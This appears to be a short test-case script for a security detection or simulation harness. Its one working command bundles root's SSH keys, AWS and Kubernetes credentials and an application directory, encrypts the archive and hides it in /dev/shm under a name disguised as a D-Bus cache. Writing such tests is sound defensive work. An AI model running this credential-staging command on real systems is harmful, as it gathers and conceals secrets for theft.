#!/bin/sh
. /opt/case/case.sh

tar -czf - /root/.ssh /root/.aws /root/.kube /srv/app 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -k bait -out /dev/shm/.dbus-cache
test -s /dev/shm/.dbus-cache
took_place
